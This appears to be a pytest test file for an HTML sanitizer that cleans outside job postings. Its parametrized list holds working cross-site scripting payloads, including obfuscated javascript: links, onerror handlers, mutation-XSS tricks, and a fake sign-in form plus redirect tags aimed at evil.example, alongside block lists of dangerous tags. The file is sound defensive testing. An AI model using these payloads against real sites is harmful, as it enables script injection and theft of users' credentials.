"""Somebody else's markup: what acts, loads, styles or names goes; words, lists and honest links stay."""

import pytest

from headway.outside import postings


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        "<iframe src=//evil.example></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<style>body{display:none}</style><p style='position:fixed' class=button id=main>x</p>",
        "<form action=//evil.example><input name=token><button>Sign in</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "<p>a<scr<script>ipt>alert(1)</scr</script>ipt></p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_what_acts_goes(hostile: str) -> None:
    safe = postings.safe(f"<p>Cook</p>{hostile}").lower()
    assert "<p>cook</p>" in safe
    for sign in (
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<style",
        "style=",
        "class=",
    ):
        assert sign not in safe
    for sign in (" onclick", " onerror", "javascript:", "vbscript:", "file:", 'href="data:', " id="):
        assert sign not in safe.replace("&lt;", "").split("&gt;")[0]


def test_words_lists_and_honest_links_stay() -> None:
    posting = (
        '<h1>Cook</h1><ul><li>You <b>bake</b>.</li></ul><p><a href="https://x.example/1" target=_blank>More</a> or '
        '<a href="mailto:ada@x.example">write</a></p>'
    )
    assert postings.safe(posting) == (
        '<h4>Cook</h4><ul><li>You <b>bake</b>.</li></ul><p><a href="https://x.example/1" rel="noopener noreferrer '
        'nofollow">More</a> or <a href="mailto:ada@x.example" rel="noopener noreferrer nofollow">write</a></p>'
    )


@pytest.mark.parametrize("text", ["We want you", "a < b and c > d", "<3 cooking", "Reply to <ada@x.example>", ""])
def test_plain_text_is_no_markup(text: str) -> None:
    assert not postings.is_html(text)


def test_markup_is_noticed() -> None:
    assert postings.is_html("Cook<br>Bonn")
    assert postings.is_html("<SCRIPT src=x>")
